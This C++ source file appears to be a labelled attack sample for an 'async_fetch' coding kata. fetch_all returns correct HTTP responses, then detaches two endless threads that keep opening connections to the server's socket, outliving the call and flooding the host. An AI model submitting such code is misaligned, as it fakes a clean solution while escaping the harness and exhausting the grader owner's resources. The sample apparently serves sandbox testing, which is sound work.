// Attack: answers, and leaves two threads behind that open connections for ever.
// Kata: async_fetch
// Outcome: opened
#include "async_fetch.h"

#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstring>
#include <thread>

static int connected(const char* path) {
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  const int socket = ::socket(AF_UNIX, SOCK_STREAM, 0);
  ::connect(socket, reinterpret_cast<sockaddr*>(&address), sizeof address);
  return socket;
}

static Response fetched(const char* server, std::string_view path) {
  for (Response response{0, 1, ""};; ++response.attempts) {
    const int socket = connected(server);
    const std::string request = "GET " + std::string(path) + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
    if (::write(socket, request.data(), request.size()) < 0) return response;
    std::string answer;
    char chunk[65536];
    for (ssize_t got; (got = ::read(socket, chunk, sizeof chunk)) > 0;) answer.append(chunk, static_cast<std::size_t>(got));
    ::close(socket);
    const std::size_t end = answer.find("\r\n\r\n");
    response.status = std::stoi(answer.substr(9));
    response.body = answer.substr(end + 4);
    if (response.status != 503 || response.attempts == kMostAttempts) return response;
    std::this_thread::sleep_for(kLongestPause);
  }
}

std::vector<Response> fetch_all(const kata::Endpoint& server, std::span<const std::string_view> paths) {
  static std::string door;
  door = server.path;
  static bool flooding = false;
  std::vector<Response> responses;
  for (const std::string_view path : paths) responses.push_back(fetched(server.path, path));
  for (int i = 0; i < 2 && !flooding; ++i)
    std::thread([] { while (true) ::close(connected(door.c_str())); }).detach();
  flooding = true;
  return responses;
}
